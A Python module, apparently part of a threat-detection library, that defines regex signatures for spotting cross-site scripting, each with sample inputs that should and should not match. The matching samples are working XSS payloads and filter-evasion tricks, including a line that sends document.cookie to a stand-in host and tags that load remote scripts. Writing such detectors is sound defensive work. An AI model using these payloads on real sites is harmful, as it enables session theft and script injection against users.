"""Cross-site scripting: elements, attributes and addresses that run something."""

# a pattern is one thing, and broken up is harder to compare

from __future__ import annotations

from aura_logging.threats.signature import Signature

__all__ = ["MARKUP"]

_EVENTS = (
    "abort|activate|after|animation|auxclick|before|begin|blur|bounce|canplay|cell|change|click|close|contextmenu|control|"
    "copy|cue|cut|dataavailable|datasetc|dblclick|deactivate|drag|drop|duration|emptied|end|error|filter|finish|focus|"
    "form|fullscreen|gesture|gotpointer|hashchange|help|input|invalid|key|layout|load|losecapture|lostpointer|media|"
    "message|mouse|move|moz|offline|online|open|out|page|paste|pause|play|pointer|popstate|progress|property|ratechange|"
    "ready|redo|repeat|reset|resize|resume|reverse|row|scroll|search|seek|select|show|stalled|start|stop|storage|submit|"
    "suspend|synchrestored|time|toggle|touch|track|transition|undo|unhandled|unload|url|volume|waiting|webkit|wheel|zoom"
)
_SINKS = (
    r"alert|confirm|prompt|eval|setTimeout|setInterval|Function(?=\s?\(?\s?[\"'`])|execScript|msgbox|fetch|import|atob|unescape|"
    r"document\.(?:write(?:ln)?|createElement|(?:getElement\w+|querySelector)(?!\([^()]{0,60}\)\.\w{1,20}(?:\s+[a-z]{2,}){2}))|String\.fromCharCode|"
    r"(?:window|self|top|parent|this|globalThis)\[\W*\w+\W*\]|\$\.get\w*|XMLHttpRequest"
)

MARKUP = (
    Signature(
        "xss.element",
        "xss",
        0.95,
        rb"<[^a-z0-9=]{0,6}(?:script|iframe|object|embed|applet|meta|link|base|frame|frameset|svg|math|layer|ilayer|xml|bgsound|"
        rb"import|style|isindex|xss|noscript|template|portal|plaintext|listing|xmp|body|html|form|input|button|textarea|select|"
        rb"video|audio|marquee|keygen|event-source|animate|set|image|title|comment|nolayer|vmlframe|handler|head)"
        rb"(?:[^a-z0-9_-]|$)",
        # Not "the <script> tag is old": words, and nothing but words, to the end.
        r"<(?!script>[\s,.?!'\"`)]{1,3}(?:tags?|elements?|blocks?|is|in|to|and|or|from|inside|should|does|into|at|on|the)\b[\w\s,.?!'\"`)-]{0,400}\Z)[/\\\x00<%?]{0,6}(?:x:|\w{1,10}:)?(?:script|iframe|object|embed|applet|frame|frameset|svg|math|i?layer|bgsound|isindex|"
        r"xss|portal|plaintext|listing|event-source|vmlframe|noembed|keygen|handler|html|nolayer)(?=[^a-z0-9_.@-]|\Z)"
        r"|<\s*/?\s*(?:base|meta|link)\s+[^<>]{0,500}?(?:href|content|http-equiv|rel|charset)\s*="
        r"|<\s*(?:body|form|input|button|textarea|select|video|audio|marquee|style|template|image|title|xml|import|animate|set)"
        r"(?:[\s/][^<>]{0,500}?(?:=|autofocus)|/[^>\s]|\s*>[^<>]{0,300}<\s*(?:script|/style|img|svg))"
        r"|</\s*(?:script|style|title|textarea|noscript|xmp|comment|iframe|svg|math)\s*[^<>]{0,20}>\s*<"
        r"|<\s*body\s+(?:background|bgcolor)|<xmp>|<!--\[if",
        (
            "<script>alert(1)</script>",
            "<ScRiPt src=//x.example/a.js>",
            "<svg/onload=alert(1)>",
            "\"><iframe src='//x.example'>",
            "</title><script>x()</script>",
            '<meta http-equiv="refresh" content="0;url=//x.example">',
            "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        ),
        (
            "<b>bold</b>",
            "How do I escape <script> in HTML?",
            '<a href="/about">about</a>',
            "I <3 scripts",
            "a < b and form > substance",
            "<span class=svg>x</span>",
        ),
    ),
    Signature(
        "xss.handler",
        "xss",
        0.9,
        rb"on(?:" + _EVENTS.encode() + rb")[a-z]{0,20}[^a-z0-9]{0,30}(?:=|%3d)",
        rf"<[^<>]{{0,1000}}?[\s/\"'`;&\x00?<\]]on(?:{_EVENTS})[a-z]{{0,20}}[^\w<>=,:]{{0,30}}="
        rf"|(?:[\"'`>/]|\A)\s*(?:[^<>]{{0,100}}[\s/\"'`])?on(?:{_EVENTS})[a-z]{{0,20}}\s{{0,5}}=\s{{0,5}}[^\s&,;]{{0,40}}"
        r"[(`=\[\"']"
        rf"|\bon(?:{_EVENTS})[a-z]{{0,20}}\s{{0,5}}=\s{{0,5}}[\"']?\s{{0,5}}(?:javascript:|{_SINKS})\b",
        (
            "<img src=x onerror=alert(1)>",
            '" autofocus onfocus="alert(1)',
            "x' onmouseover='prompt(1)",
            "<a/onclick\n=\nalert(1)>",
            "<b onwheel=x>",
        ),
        ("online=1", "on sale = yes", "the season=summer", "button = on, load = 5", "config: onload = true"),
    ),
    Signature(
        "xss.address",
        "xss",
        0.9,
        rb"s[^a-z0-9]{0,4}c[^a-z0-9]{0,4}r[^a-z0-9]{0,4}i[^a-z0-9]{0,4}p[^a-z0-9]{0,4}t[^a-z]{0,10}(?::|%3a)|data[^a-z]{0,4}(?::|%3a)[^,]{0,30}(?:html|xml|base64|javascript)",
        r"(?:\A|[\s\"'`=(<>,;/\\\[{])(?:j\W{0,8}a\W{0,8}v\W{0,8}a|v\W{0,8}b|l\W{0,8}i\W{0,8}v\W{0,8}e)\W{0,8}s\W{0,8}c\W{0,8}r\W{0,8}i\W{0,8}p\W{0,8}t\s{0,5}:"
        r"(?=\S{0,200}?[(=`\[%/#*'\"+!;{&\\])(?!\s)|"
        r"(?:=|\A|\(|,)\s{0,5}[\"'`]?\s{0,5}(?:j[\s\x00]{0,8}a[\s\x00]{0,8}v[\s\x00]{0,8}a|v[\s\x00]{0,8}b)[\s\x00]{0,8}s[\s\x00]{0,8}c[\s\x00]{0,8}r[\s\x00]{0,8}i[\s\x00]{0,8}p"
        r"[\s\x00]{0,8}t\s{0,5}:\s{0,5}[^\s]{0,60}[(`=]|"
        r"data\s{0,4}:\s{0,4}(?:text/(?:html|xml|javascript|vbscript|x-scriptlet)|image/svg(?:\+|\s|-)xml|application/(?:xhtml\+xml|javascript|x-javascript|xml)|"
        r"[^,\s]{0,30};?base64\W?,\s?(?:PHN|PCF|PHh|PD94|PGh0|PGlm|PGlt))",
        (
            "javascript:alert(1)",
            "<a href=' java\tscript:alert(1)'>",
            "data:text/html,<b>x</b>",
            "vbscript:msgbox(1)",
            "JaVaScRiPt://%0aalert(1)",
        ),
        (
            "JavaScript: The Good Parts",
            "I like javascript: it is fun",
            "data: 5 items",
            "data:image/png;base64,iVBORw0KGgo=",
        ),
    ),
    Signature(
        "xss.style",
        "xss",
        0.85,
        rb"expression|-moz-binding|behaviou?r[^a-z]{0,4}(?::|%3a)|@import|style[^a-z]{0,4}=|url\(|xlink|formaction|srcdoc|"
        rb"datasrc|dynsrc|lowsrc|ev:event|attributename",
        r"(?:\A|[\s:;\"'{=/*])(?:e\W{0,12}x\W{0,12}p\W{0,12}r\W{0,12}e\W{0,12}s\W{0,12}s\W{0,12}i\W{0,12}o\W{0,12}n)\s{0,5}\(\s{0,5}(?:[\w.]{0,40}[(=]|\W)"
        r"|\bexp?r?/\*[^*]{0,40}\*/|-moz-binding\s{0,5}:|behaviou?r\s{0,5}:\s{0,5}url|@import\s{0,5}(?:url|[\"'(])"
        r"|<[^<>]{0,500}?[\s/\"'](?:xlink:href|formaction|srcdoc|datasrc|dynsrc|lowsrc|xlink:actuate|ev:event|attributename)\s{0,5}="
        r"|style\s{0,5}=[^<>]{0,120}?(?:(?<![a-z])url\s{0,5}\(|:\s{0,5}\\|expression|\\[0-9a-f]{2}|binding|behaviou?r)",
        (
            '<div style="width:expression(alert(1))">',
            "<x style=behavior:url(a.htc)>",
            "<style>@import'//x.example/a.css';</style>",
            "<math><a xlink:href=//x.example>x",
            '<button formaction="//x.example">',
        ),
        (
            "an expression (of love)",
            "style=modern",
            "the url(s) you sent",
            "style = new\nschool = curl(7)",
            "facial expression",
        ),
    ),
    Signature(
        "xss.script",
        "xss",
        0.75,
        rb"(?:alert|confirm|prompt|eval|msgbox|fromcharcode|settimeout|setinterval|function|unescape|fetch|atob|import|write(?:ln)?|"
        rb"createelement|getelement[a-z]{1,20}|queryselector|execscript|constructor|location|cookie|xmlhttprequest|domain|innerhtml)"
        rb"[^a-z0-9]{0,3}(?:[(`\[=.)\]]|%28|%60)|document\.|window\.|self\[|top\[|\[\]\[|\+\[\]|\.constructor|(?:parent|this|globalthis|frames|window)\[|(?:alert|confirm|prompt|eval)[)]?[,;][a-z]|=\(\{|/\*-/\*",
        r"\A(?!alert\s?\(\)\s[a-z]|[\w.]{1,40}\([^()]{0,40}\)(?:\.\w{1,20})?(?:\s+[a-z]{2,}){2})[\s\"'`;)}\]\\/*+&|^,>?!~-]{0,20}(?:[\w.]{0,30}=)?\(?"
        rf"(?:{_SINKS})\s{{0,3}}(?:\(|`\S{{1,30}}`|\?\.\(|/\*)"
        rf"|[\"'`;)}}\]]\s{{0,5}}[-+*;,&|^/<>?%]{{1,2}}\s{{0,5}}(?:window\.|self\.|top\.|\(\s?\d?,\s?)?(?:{_SINKS})(?:\(|\s(?=\(\s?[\"'`])|`\S{{1,30}}`)"
        r"|document\.(?:cookie|domain|location|body|head)\s{0,3}(?:[).;=,\]+]|\Z)(?![a-z])"
        r"|\A[\"']?\W{0,10}(?:document|window|self|top|location)(?:\.\w+){0,4}\s?=\s?[^=]{1,80}(?:\(|//|javascript|hash|name)"
        r"|\[\]\[[\"'(!+\[]|\(!\[\]\+|\[\"?(?:constructor|alert|eval)\"?\]\s?[(\[]|\]\.constructor\("
        r"|=\s?String\.fromCharCode\s?\(|\A\W{0,6}(?:window|self|top|parent|this|globalThis|frames)\[[^\]\s]{1,60}\]\s?[(`]|\.constructor\.constructor\s?\(|innerHTML\s{0,3}=\s{0,3}[^=\s]|/\*-/\*`|\A\W{0,6}\(\s?(?:alert|confirm|prompt|eval)\s?\)\s?\(|\$\{\s?(?:alert|confirm|prompt|eval|fetch|import)\s?[(`]|(?:=|\A)\s?(?:alert|confirm|prompt|eval)[,;]\w{1,20}\(|\]\.(?:find|map|some|every|forEach|filter|findIndex|sort|reduce)\s?\(\s?(?:alert|confirm|prompt|eval)\b|\.constructor\s?(?:`|\(\s?[\"'`])|\A\W{0,4}\(\)\s?=>\s?\{?\s?(?:alert|confirm|prompt|eval|fetch)\s?[(`]|\b(?:alert|confirm|prompt|eval)\.(?:call|apply|bind)\s?[(`]|\Anew\s+Function\s?[(`]|\bonerror\s?=\s?(?:alert|confirm|prompt|eval)\s?[;,]|(?:alert|confirm|prompt)\s?(?:&lpar;|`)\d",
        (
            "';alert(1)//",
            '"-confirm(1)-"',
            "alert(document.cookie)",
            "${alert(1)}",
            "(alert)(1)",
            "a=alert,a(1)",
            "[1].find(alert)",
            "(()=>{alert(1)})()",
            "eval.call`${1}`",
            "[].filter.constructor('alert(1)')()",
            ";onerror=alert;throw 1",
            'window["al"+"ert"](1)',
            "Function`alert(1)```",
            "');eval(name)//",
            "\\\";alert('x');//",
            "[]['constructor']('x')()",
            "new Image().src='//x.example/'+document.cookie;",
        ),
        (
            "alert me (soon)",
            "1alert(1)",
            "x/void(1)",
            "please call alert(1) in the handler",
            "alert() does nothing in my browser",
            "see document.location for details",
            "1 function (1)",
            "document.getElementById('x').value returns null",
            "totals.map(alerts)",
        ),
    ),
    Signature(
        "xss.broken_markup",
        "xss",
        0.7,
        rb"<[^a-z]{0,3}(?:img|image|div|a|p|br|td|table|var|input|video|audio|b|x|xss|span|details|font|h1|center|marquee|!|\?|%)[^a-z]|\+adw-|<[^>]{1,40}=",
        r"<\s{0,3}img\b[^<>]{0,100}?\ssrc\s{0,3}=\s{0,3}[\"'`]?(?:x|a|1|\#|[^\s\"'>/.]{1,4}:[^/\s]{1,10})[\"'`\s>]"
        r"|\+ADw-|&\{[^}]{0,80}\("
        r"|<[^<>\s]{1,20}[\s/][^<>]{0,200}?(?:=\s{0,3}[\"'`]?\s{0,3}&\#|=`[^`]{0,80}`)"
        r"|<!(?:entity|attlist)\b|<\?(?:xml-stylesheet|import)|<\w{1,20}:\w{1,20}[\s>/][^<>]{0,200}?="
        r"|<[a-z]{1,12}[^<>]{0,300}?(?:poster|background|href|src|data|code|action|from|to|values)\s{0,3}=\s{0,3}[\"'`]?\s{0,3}(?:javascript|vbscript|livescript)",
        (
            "<img src=x>",
            "+ADw-script+AD4-alert(1)",
            "<br size=\"&{alert('x')}\">",
            "<a href=&#106;avascript:x>",
        ),
        (
            '<img src="/logo.png">',
            '<img class="wide" src="https://example.com/a.png">',
            '<table width="99%" border="0">',
        ),
    ),
)
